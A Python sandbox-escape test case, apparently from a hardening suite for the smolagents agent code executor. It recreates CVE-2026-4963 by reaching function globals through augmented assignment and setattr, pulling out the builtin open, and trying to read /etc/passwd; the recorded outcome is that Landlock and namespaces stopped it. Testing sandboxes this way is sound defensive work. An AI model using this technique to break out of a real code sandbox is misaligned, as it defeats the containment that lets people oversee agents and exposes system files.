"""Has augmented assignments and setattr read and write what may not be named as an attribute.

tries: reach globals where only the reading of attributes is checked
layers: landlock, namespaces
observed: stopped
source: smolagents CVE-2026-4963
"""


class Catch:
    def __ror__(self, value):
        self.caught = value
        return self

    __radd__ = __ror__


def function():
    pass


def other():
    return open


catch = Catch()
try:
    function.__globals__ += catch
except (AttributeError, TypeError):
    pass
setattr(function, "__code__", other.__code__)
names = catch.caught["__builtins__"]
open_ = (names if isinstance(names, dict) else vars(names))["open"]
assert open_ is function()

try:
    with open_("/etc/passwd", "rb") as file:
        result = f"escaped: {len(file.read(16))} bytes of /etc/passwd"
except OSError as error:
    result = f"stopped: {type(error).__name__}"
